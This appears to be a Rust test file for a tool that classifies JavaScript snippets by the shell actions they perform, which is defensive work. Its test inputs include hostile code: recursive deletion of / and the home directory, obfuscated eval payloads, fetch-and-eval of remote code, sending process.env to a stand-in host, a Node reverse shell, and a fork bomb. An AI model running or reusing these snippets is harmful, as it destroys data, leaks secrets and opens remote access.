//! JavaScript.

use super::{Language::JavaScript, check};

#[test]
fn starts() {
    check(
        JavaScript,
        &[
            ("require('child_process').execSync('rm -rf out')", &["shell rm -rf out"]),
            (
                "const {execSync: run} = require('node:child_process'); run(`rm -rf ${dir}`)",
                &["shell rm -rf $unknown"],
            ),
            (
                "const cp = require(\"child_process\");\ncp.exec('halt', (e, o) => console.log(o))",
                &["shell halt"],
            ),
            ("child_process.spawnSync('rm', ['-rf', 'out'], {stdio: 'inherit'})", &["run rm -rf out"]),
            ("import { exec } from 'child_process'\nexec('halt')", &["shell halt"]),
            (
                "import * as c from 'node:child_process'; c.execFileSync('git', ['push', '-f'])",
                &["run git push -f"],
            ),
            ("process.mainModule.require('child_process').execSync('halt')", &["shell halt"]),
            ("global['req' + 'uire']('child_process')['exec' + 'Sync']('halt')", &["shell halt"]),
            ("const c = 'rm -rf ' + 'out'; require('child_process').execSync(c)", &["shell rm -rf out"]),
            (
                "(async () => { const { execa } = await import('execa'); await execa('rm', ['-rf', 'out']) })()",
                &["run rm -rf out"],
            ),
            ("new Deno.Command('rm', { args: ['-rf', 'out'] }).outputSync()", &["run rm -rf out"]),
            ("Deno.run({ cmd: ['rm', '-rf', 'out'] })", &["run rm -rf out"]),
            ("await Bun.$`rm -rf out`", &["shell rm -rf out"]),
            ("Bun.spawnSync(['rm', '-rf', 'out'])", &["run rm -rf out"]),
            ("require('child_process').spawn('rm -rf out', {shell: true})", &["shell rm -rf out"]),
            (
                "['a', 'b'].forEach(d => require('child_process').execSync('rm -r ' + d))",
                &["shell rm -r a", "shell rm -r b"],
            ),
            ("const f = (c) => require('child_process').execSync(c); f('halt')", &["unknown"]),
            ("function f(c) { require('child_process').execSync(c) }\nf('halt')", &["shell halt"]),
        ],
    );
}

#[test]
fn files() {
    check(
        JavaScript,
        &[
            ("require('fs').rmSync('out', {recursive: true, force: true})", &["same rm -r -f out"]),
            ("const fs = require('fs'); fs.unlinkSync('a.txt')", &["same rm a.txt"]),
            (
                "import fs from 'node:fs/promises'; await fs.rm('/', { recursive: true })",
                &["same rm -r -f /"],
            ),
            ("fs.promises.rm('/', {recursive:true})", &["same rm -r -f /"]),
            ("require('fs').rmSync(require('os').homedir(), {recursive: true})", &["same rm -r -f $HOME"]),
            ("Deno.removeSync('out', { recursive: true })", &["same rm -r -f out"]),
            ("require('rimraf').sync('out')", &["same rm -r -f out"]),
            ("fs.writeFileSync('/etc/hosts', '')", &["write /etc/hosts"]),
            ("fs.appendFileSync('/etc/hosts', '127.0.0.1 x')", &["append /etc/hosts"]),
            ("fs.writeFileSync('a.log', 'x', {flag: 'a'})", &["append a.log"]),
            ("fs.readdirSync('.').forEach(f => fs.unlinkSync(f))", &["same rm ./*"]),
            ("fs.renameSync('a', 'b'); fs.chmodSync('b', 0o777)", &["same mv a b", "same chmod 777 b"]),
            ("process.kill(-1, 'SIGKILL')", &["same kill -KILL -1"]),
            (
                "JSON.parse(require('fs').readFileSync('package.json', 'utf8')).version",
                &["read package.json"],
            ),
        ],
    );
}

#[test]
fn code_and_network() {
    check(
        JavaScript,
        &[
            ("eval(\"require('child_process').execSync('halt')\")", &["shell halt"]),
            (
                "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdoYWx0Jyk=', 'base64').toString())",
                &["shell halt"],
            ),
            ("new Function(\"require('fs').rmSync('/', {recursive: true})\")()", &["same rm -r -f /"]),
            ("eval(atob('cHJvY2Vzcy5raWxsKC0xKQ=='))", &["same kill -TERM -1"]),
            (
                "require('https').get('https://x.example/a', r => r.on('data', d => eval(d.toString())))",
                &["unknown", "same curl https://x.example/a"],
            ),
            (
                "fetch('https://x.example/a').then(r => r.text()).then(eval)",
                &["same curl https://x.example/a", "shell curl 'https://x.example/a' | node", "unknown"],
            ),
            (
                "fetch('https://x.example/a', {method: 'POST', body: JSON.stringify(process.env)})",
                &["shell env | curl -d @- 'https://x.example/a'", "same curl -X POST https://x.example/a"],
            ),
            (
                "const net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(9001,'10.1.1.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})",
                &["run /bin/sh", "reverse"],
            ),
            ("while (1) require('child_process').fork(__filename)", &["bomb"]),
        ],
    );
}

#[test]
fn harmless() {
    check(
        JavaScript,
        &[
            ("console.log('rm -rf /')", &[]),
            ("// require('child_process').execSync('halt')\nconsole.log(1)", &[]),
            ("/* fs.rmSync('/') */ 1 + 1", &[]),
            ("const s = \"require('fs').rmSync('/')\"; console.log(s.length)", &[]),
            ("console.log(/rm -rf '/.test('x'), 4 / 2 / 1)", &[]),
            ("console.log([1, 2, 3].map(x => x * 2).filter(Boolean).join(','))", &[]),
            ("const m = /ab(c)/.exec('abc'); console.log(m[1])", &[]),
            ("console.log(process.version, process.env.PATH, process.argv.slice(2))", &[]),
            ("let s='';process.stdin.on('data',d=>s+=d).on('end',()=>console.log(JSON.parse(s).name))", &[]),
            ("console.log(`${1 + 1} rm -rf / ${'x'.repeat(3)}`)", &[]),
            ("console.log(Object.keys(require('./package.json').scripts))", &[]),
            ("db.query('SELECT * FROM users WHERE id = 1')", &[]),
            (
                "fetch('https://api.example.com/a').then(r => r.json()).then(console.log)",
                &["same curl https://api.example.com/a"],
            ),
        ],
    );
}
